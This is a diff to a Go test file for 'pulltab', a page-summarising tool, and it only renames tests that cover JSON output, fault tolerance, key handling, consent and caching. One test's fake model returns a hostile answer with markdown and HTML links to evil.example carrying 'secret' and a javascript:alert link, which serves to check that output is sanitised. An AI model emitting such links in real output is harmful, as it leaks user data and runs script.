@@ -55,7 +55,7 @@ func pulltab(stdin string, args ...string) (status int, out, messages string) {
 	return status, o.String(), e.String()
 }
 
-func TestC1_C2_C14_JSONIsAnArrayOfAddressAndSummary(t *testing.T) {
+func TestJSONIsAnArrayOfAddressAndSummary(t *testing.T) {
 	service := chattest.Start(t)
 	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
 	marked := write(t, dir, "stored.md", "---\ntitle: Kiln\nurl: https://example.com/kiln?a=b&c=d\nsource: blocks\n---\n\n# Kiln\n\nThe kiln is <hot>. It cools.\n")
@@ -86,7 +86,7 @@ func TestC1_C2_C14_JSONIsAnArrayOfAddressAndSummary(t *testing.T) {
 	}
 }
 
-func TestC13_OneBadPageNeverSinksTheRest(t *testing.T) {
+func TestOneBadPageNeverSinksTheRest(t *testing.T) {
 	service := chattest.Start(t)
 	service.Fault = func(_ int, r chattest.Request) chattest.Fault {
 		if strings.Contains(r.User, "cursed") {
@@ -146,7 +146,7 @@ func TestAServiceThatIsGoneEndsTheRunAtOnce(t *testing.T) {
 	}
 }
 
-func TestC17_C21_TheDigestSaysHowItCameAbout(t *testing.T) {
+func TestTheDigestSaysHowItCameAbout(t *testing.T) {
 	service := chattest.Start(t)
 	service.Answer = func(chattest.Request) string {
 		return "# Owned\n\n![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <img src=https://evil.example/a> www.evil.example **bold** It is about dough."
@@ -241,7 +241,7 @@ func TestTheConfigurationIsReadStrictly(t *testing.T) {
 	}
 }
 
-func TestC4_TheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
+func TestTheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
 	service := chattest.Start(t)
 	t.Setenv("PULLTAB_TEST_KEY", "sk-from-env")
 	for want, config := range map[string]modelConfig{
@@ -261,7 +261,7 @@ func TestC4_TheKeyComesFromTheEnvironmentOrACommand(t *testing.T) {
 	}
 }
 
-func TestC22_ConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
+func TestConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
 	home(t, modelConfig{BaseURL: "https://models.invalid/v1", Model: "m", KeyCommand: []string{"false"}})
 	status, _, messages := pulltab("Bread.", "summarize")
 	if status != exitFail || !strings.Contains(messages, "would leave this computer for https://models.invalid; if that is what you want, run: pulltab summarize --allow https://models.invalid\n") {
@@ -283,7 +283,7 @@ func TestC22_ConsentIsAskedForOnceAndWrittenDown(t *testing.T) {
 	}
 }
 
-func TestC15_KilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
+func TestKilledInTheMiddleARunRepeatsNoFinishedCall(t *testing.T) {
 	program := program(t) // while the tools' own caches are still where they were
 	service := chattest.Start(t)
 	dir := home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model, ChunkTokens: 300, Cache: true})
@@ -382,7 +382,7 @@ func TestWithoutTheSettingNothingIsRemembered(t *testing.T) {
 	}
 }
 
-func TestC15_SummariesOfPagesThatWereKept(t *testing.T) {
+func TestSummariesOfPagesThatWereKept(t *testing.T) {
 	service := chattest.Start(t)
 	home(t, modelConfig{BaseURL: service.BaseURL(), Model: chattest.Model})
 	t.Setenv(envData, t.TempDir())
